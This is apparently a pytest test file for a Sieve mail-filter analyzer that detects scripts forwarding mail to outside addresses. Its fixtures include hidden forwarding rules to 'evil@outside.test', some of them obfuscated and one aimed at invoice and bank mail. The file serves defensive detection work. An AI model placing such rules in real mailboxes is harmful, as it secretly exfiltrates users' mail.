from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sekisho.containment.scripts import ScriptEffects, read_script

OURS = frozenset({"customer.example", "alias.example"})


def effects(script: str, **others: str) -> ScriptEffects:
    return read_script(script, lambda name: others.get(name, ""))


@pytest.mark.parametrize(
    "script",
    [
        'redirect "evil@outside.test";',
        'require ["copy"];\r\nredirect :copy "evil@outside.test";\r\n',
        'if header :contains "subject" ["invoice", "bank"] { redirect "evil@outside.test"; stop; }',
        'REDIRECT "evil@outside.test";',
        '/* harmless */ redirect # really\n "evil@outside.test";',
        'redirect "Me <evil@outside.test>";',
        "redirect text:\nevil@outside.test\n.\n;",
        'redirect :notify "NEVER" :ret "HDRS" "evil@outside.test";',
        'require "enotify"; notify :message "x" "mailto:evil@outside.test?subject=hi";',
        'redirect "ev\\il@outside.test";',
    ],
)
def test_it_sees_where_mail_is_sent_to(script: str) -> None:
    assert effects(script).outside(OURS) == ["evil@outside.test"]


@pytest.mark.parametrize(
    "script",
    [
        "",
        "keep;",
        '# redirect "evil@outside.test";\nkeep;',
        '/* redirect "evil@outside.test"; */ keep;',
        'if header :contains "subject" "redirect" { fileinto "Redirect"; }',
        'fileinto "redirect \\"evil@outside.test\\";";',
        "text:\nredirect\n.\n",
    ],
)
def test_it_sees_nothing_where_nothing_is_sent(script: str) -> None:
    assert effects(script)._replace(folders=()) == ScriptEffects((), False, False)


def test_our_own_addresses_are_not_outside_and_a_computed_one_is() -> None:
    assert effects('redirect "bob@Customer.Example";').outside(OURS) == []
    assert effects('set "to" "evil@outside.test"; redirect "${to}";').outside(OURS) == [""]


def test_it_sees_what_is_thrown_away_or_answered() -> None:
    assert effects("discard;").discards
    assert effects('reject "no";').discards
    assert effects('vacation :days 7 "away";').vacation


def test_it_follows_includes_and_ends_on_a_circle() -> None:
    found = effects('include :personal "b";', a='include "b";', b='include "a"; redirect "evil@outside.test";')
    assert found.outside(OURS) == ["evil@outside.test"]


@given(st.text(max_size=300))
def test_any_text_is_read_without_an_error(script: str) -> None:
    read_script(script, lambda name: script)


COMMANDS = st.sampled_from(
    [
        "keep;",
        "stop;",
        '# a remark with redirect "x@y.test";\n',
        "/* and\n another */",
        'fileinto "a;b{c}\\"d";',
        "if true { keep; }",
    ]
)


@given(st.lists(COMMANDS, max_size=6))
def test_a_redirect_is_seen_behind_any_complete_command(before: list[str]) -> None:
    found = read_script(" ".join(before) + '\nredirect "evil@outside.test";', lambda name: "")
    assert "evil@outside.test" in found.outside(OURS)


def test_it_names_the_folders_that_mail_is_filed_into() -> None:
    script = 'fileinto :copy :flags "\\\\Seen" "RSS"; fileinto "RSS"; set "f" "x"; fileinto "${f}";'
    assert effects(script).folders == ("RSS", "")


def test_a_script_that_includes_itself_a_hundred_times_is_read_once_a_level() -> None:
    script = 'include "a"; ' * 100 + 'redirect "evil@outside.test";'
    reads: list[str] = []

    def include(name: str) -> str:
        reads.append(name)
        return script

    assert read_script(script, include).targets == ("evil@outside.test",)
    assert len(reads) == 1


def test_more_includes_than_anybody_needs_count_as_outside() -> None:
    script = " ".join(f'include "s{number}";' for number in range(60))
    reads: list[str] = []

    def include(name: str) -> str:
        reads.append(name)
        return "keep;"

    assert read_script(script, include).targets == ("",)
    assert len(reads) == 50


def test_an_include_read_at_the_deepest_level_first_is_followed_from_a_higher_one() -> None:
    chain = {f"s{number}": f'include "s{number + 1}";' for number in range(9)} | {"s9": 'include "last";'}
    others = chain | {"last": 'redirect "evil@outside.test";'}
    assert read_script('include "s0"; include "s9";', lambda name: others.get(name, "")).targets == (
        "evil@outside.test",
    )
